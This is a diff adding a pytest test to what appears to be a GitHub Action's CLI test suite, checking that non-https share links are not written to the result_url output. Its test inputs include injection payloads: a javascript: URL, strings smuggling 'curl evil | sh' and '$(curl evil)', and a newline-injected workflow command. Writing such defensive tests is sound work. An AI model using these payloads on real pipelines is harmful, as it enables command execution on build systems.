@@ -281,3 +281,31 @@ def test_action_when_connections_are_refused_leaves_urllib3s_retry_chatter_out_o
     assert cli.action_main(env, clock=FakeClock()) == 3
     debug = capsys.readouterr().out
     assert "::debug::Retrying (Retry(" in debug and "::warning::Retrying" not in debug
+
+
+@responses.activate
+@pytest.mark.parametrize(
+    "link",
+    [
+        "javascript:alert(1)",
+        'https://x.example/"; curl evil | sh; "',
+        "https://x.example/$(curl evil)",
+        "https://x/\n::error::y",
+    ],
+)
+def test_share_link_when_not_an_https_address_is_not_output(
+    workspace: Path, capsys: pytest.CaptureFixture[str], clock: FakeClock, link: str
+) -> None:
+    """The share link becomes the result_url output, which later steps interpolate: only an
+    https address on one line, without quotes or spaces, is used; the verdict stands."""
+    passing = {"id": 1, "scenario": 101, "status": "completed", "success": True}
+    responses.get(RESULT, json={"id": 77, "status": "completed", "runs": {"1": passing}})
+    responses.post(
+        RESULT + "create_shareable_link_token/", json={"token": "t", "shareable_link": link}
+    )
+    env = action_env(
+        workspace, api_key=API_KEY, agent_id="42", result_id="77", api_url=BASE, share_link="true"
+    )
+    assert cli.action_main(env, clock=clock) == 0
+    assert read_outputs(workspace / "github_output")["result_url"] == ""
+    assert "share link for result 77 is not an https address" in capsys.readouterr().out
